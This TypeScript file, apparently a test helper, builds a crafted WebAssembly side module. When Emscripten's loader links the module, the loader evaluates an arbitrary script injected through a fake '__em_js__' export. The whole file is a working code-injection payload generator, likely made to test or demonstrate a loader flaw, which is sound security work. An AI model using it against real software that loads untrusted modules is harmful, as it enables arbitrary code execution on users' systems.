/** Builds a WASM side module that makes emscripten's loader evaluate `script` when it is linked. */
export function maliciousLibrary(script: string): Buffer {
  // The loader wraps this in `(args) => body;` and evaluates it, so the part after the comma runs at once.
  const text = Buffer.from(`(void)<::>0, ${script}\0`);
  return Buffer.concat([
    Buffer.from([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]),
    // dylink.0: memory of the size of the text, no table.
    section(0, [...name('dylink.0'), 1, ...sized([...leb(text.length), 0, 0, 0])]),
    section(2, [
      ...leb(2),
      ...[...name('env'), ...name('memory'), 2, 0, 0],
      // An immutable i32.
      ...[...name('env'), ...name('__memory_base'), 3, 0x7f, 0],
    ]),
    // A global with the offset of the text, exported under the name that the loader reads.
    section(6, [...leb(1), 0x7f, 0, 0x41, 0, 0x0b]),
    section(7, [...leb(1), ...name('__em_js__crafted'), 3, 1]),
    section(11, [...leb(1), 0, 0x23, 0, 0x0b, ...sized([...text])]),
  ]);
}

function leb(value: number): number[] {
  return value < 0x80 ? [value] : [(value & 0x7f) | 0x80, ...leb(value >> 7)];
}

const sized = (bytes: number[]) => [...leb(bytes.length), ...bytes];
const name = (text: string) => sized([...Buffer.from(text)]);
const section = (id: number, bytes: number[]) => Buffer.from([id, ...sized(bytes)]);
